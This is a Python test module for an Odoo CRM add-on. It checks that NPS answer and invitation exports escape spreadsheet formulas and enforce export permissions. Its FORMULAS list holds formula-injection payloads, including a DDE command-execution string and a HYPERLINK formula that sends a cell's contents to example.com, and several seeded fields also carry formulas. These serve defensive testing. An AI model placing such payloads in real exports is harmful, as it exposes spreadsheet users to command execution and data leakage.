import csv
import io
import json
from datetime import date, timedelta

from openpyxl import load_workbook

from odoo.http import Request
from odoo.tests import HttpCase, tagged

from .common import CrmMetricsCommon
from .common_web import ExportMixin
from .nps_figures_case import ANSWER, INVITATION, NpsFiguresCase

#: what a program for spreadsheets would run, or take for a number
FORMULAS = (
    '=HYPERLINK("http://example.com?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
)
TEXTS = (
    "Just = text",
    "5 - 3",
    "mail@example.com",
    "{braces}",
    "\u05e9\u05dc\u05d5\u05dd",
)


@tagged("post_install", "-at_install")
class TestNpsExport(ExportMixin, NpsFiguresCase, HttpCase):
    """Downloads of answers; the clock of a server is not frozen."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.day = date.today() - timedelta(days=3)
        cls.options = {
            "date_from": cls.day.isoformat(),
            "date_to": date.today().isoformat(),
            "grain": "day",
        }
        cls.manager.group_ids += cls.env.ref("base.group_allow_export")

    def setUp(self):
        # no frozen clock, but Odoo's own set-up
        super(CrmMetricsCommon, self).setUp()
        self.customer.write({"user_id": self.seller.id, "name": "=Customer"})
        self.program.name = "=1+1"
        tag = self.env["crm.nps.tag"].create({"name": "@Price"})
        values = {"date": f"{self.day} 10:00:00", "comment": "=2+2"}
        self.answers(9, 9, 10, 7, 0, partner_id=self.customer.id, **values)
        self.answers(0, tag_ids=tag.ids, **values)
        self.answers(8, public=True, **values)
        self.invite("answered", self.day.isoformat())
        self.invite("skipped", self.day.isoformat(), skip_reason="quarantine")

    def sheet(self, **options):
        response = self.export(options={**self.options, **options}, what="nps")
        rows = self.rows(response)
        self.assertFalse([c for row in rows for c in row if c.data_type == "f"])
        self.assertIn(
            f"filename*=UTF-8''nps_{self.day}_{date.today()}.xlsx",
            response.headers["Content-Disposition"],
        )
        return [[cell.value for cell in row] for row in rows]

    def test_sheet(self):
        rows = self.sheet(program_ids=self.program.ids)
        for row in (
            ["Program", "=1+1"],
            ["NPS", 17],
            ["Answers", 6],
            ["Promoters (9, 10)", 3],
            ["NPS of accounts", 40],
            ["Public answers", 1],
            ["Delivered", 1],
            ["Response rate", 1],
            ["Asked not long ago", 1],
            ["@Price", 1],
        ):
            with self.subTest(row):
                self.assertIn(row, rows)
        at = rows.index(["Score", "Answers"])
        self.assertEqual(
            rows[at + 1 : at + 12],
            [[n, {0: 2, 7: 1, 9: 2, 10: 1}.get(n, 0)] for n in range(11)],
        )

    def test_sheet_of_groups(self):
        rows = self.sheet(group_by="user")
        at = next(i for i, row in enumerate(rows) if row[0] == "Salesperson")
        # the only other group has one answer
        self.assertEqual(rows[at + 1], ["Groups that are too small: 2", 6])
        self.answers(*[7] * 4, date=f"{self.day} 10:00:00")
        rows = self.sheet(group_by="user")
        row = next(row for row in rows if row[0] == self.seller.name)
        self.assertEqual(row[1], 40)
        self.assertEqual(row[4:8], [5, 3, 1, 1])

    def test_sheet_of_nothing(self):
        rows = self.sheet(program_ids=self.program_2.ids, group_by="team")
        self.assertIn(["NPS"], rows)
        self.assertIn(["Answers", 0], rows)

    def test_who_may_not(self):
        self._user("nps_outsider", "base.group_user")
        response = self.export("nps_outsider", self.options, what="nps")
        self.assertEqual(response.status_code, 403)

    def download(self, kind, records, *names, **params):
        """Export records as the list does it."""
        self.authenticate("metrics_manager", "metrics_manager")
        fields = [
            {"name": name, "label": name, "store": True, "type": "char"}
            for name in names
        ]
        data = {
            "model": records._name,
            "fields": fields,
            "ids": records.ids,
            "domain": [],
            "import_compat": False,
            **params,
        }
        response = self.url_open(
            f"/web/export/{kind}",
            data={"data": json.dumps(data), "csrf_token": Request.csrf_token(self)},
        )
        self.assertEqual(response.status_code, 200, response.text[:500])
        return response.content

    def cells(self, content):
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [cell for row in sheet.rows for cell in row if cell.value is not None]
        self.assertFalse([cell.value for cell in cells if cell.data_type == "f"])
        return [cell.value for cell in cells]

    def test_list_of_answers(self):
        answers = self.env[ANSWER].concat(
            *(self.answer(5, comment=text) for text in (*FORMULAS, *TEXTS))
        )
        values = self.cells(self.download("xlsx", answers, "comment", "score"))
        for text in TEXTS:
            self.assertIn(text, values)
        self.assertEqual(sum(str(value).startswith("'") for value in values), 7)
        self.assertEqual(values.count(5), len(answers))
        rows = list(
            csv.reader(io.StringIO(self.download("csv", answers, "comment").decode()))
        )
        comments = sorted(row[0] for row in rows[1:])
        self.assertEqual(comments, sorted([*(f"'{f}" for f in FORMULAS), *TEXTS]))

    def test_grouped_list_and_related_fields(self):
        answers = self.env[ANSWER].search([("account_id", "=", self.customer.id)])
        values = self.cells(
            self.download(
                "xlsx",
                answers,
                "comment",
                "partner_id/name",
                "program_id/name",
                groupby=["bucket"],
            )
        )
        self.assertIn("'=Customer", values)
        self.assertNotIn("=2+2", values)
        # and from the other side
        values = self.cells(self.download("xlsx", self.program, "answer_ids/comment"))
        self.assertIn("'=2+2", values)

    def test_list_of_invitations(self):
        """A foreign mail server chooses its words."""
        invitation = self.invite("failed", error="=1+1", partner_id=self.customer.id)
        self.assertEqual(invitation._name, INVITATION)
        values = self.cells(
            self.download("xlsx", invitation, "error", "partner_id/name")
        )
        self.assertLessEqual({"'=1+1", "'=Customer"}, set(values))
